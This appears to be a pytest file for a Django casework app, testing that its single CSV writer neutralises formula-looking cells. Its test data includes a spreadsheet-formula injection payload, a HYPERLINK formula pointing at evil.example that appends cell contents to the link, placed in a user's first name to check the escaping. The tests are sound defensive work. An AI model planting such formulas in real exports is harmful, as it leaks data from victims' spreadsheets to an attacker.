"""The one CSV writer (casework.csv_export): formula-looking cells come out as text, and every
export uses it. Each export's own test (access log here; suspensions, access reviews and the
monthly report beside their views) checks a formula-looking value comes out neutralised."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from casework.csv_export import lines, neutralise
from casework.models import Consultation

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Smith", "Smith"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (-3, -3),  # numbers are never formulas, and stay numbers
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_lines_neutralise_the_header_and_every_row():
    text = "".join(lines([["=1+1", 2], [], ["ok", "@x"]], header=["-h"]))
    assert list(csv.reader(io.StringIO(text))) == [["'-h"], ["'=1+1", "2"], [], ["ok", "'@x"]]


def test_no_export_writes_csv_but_through_the_one_writer():
    writers = []
    for app in ("casework", "conduct", "notifications"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name != "csv_export.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []


@pytest.mark.django_db
def test_the_access_log_export_neutralises_names(client, personas, case):
    personas.head.first_name = '=HYPERLINK("http://evil.example")'
    personas.head.save()
    client.force_login(personas.head)
    client.post(client.get(case.get_absolute_url())["Location"], {"purpose": "oversight"})
    assert client.get(case.get_absolute_url()).status_code == 200
    response = client.get(f"/cases/{case.reference}/access-log/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    viewed = next(row for row in rows[1:] if row[5] != "Access log export")
    assert viewed[2].startswith("'=HYPERLINK(")
    assert viewed[1] == "helen" and Consultation.objects.filter(user=personas.head, kind="case").exists()
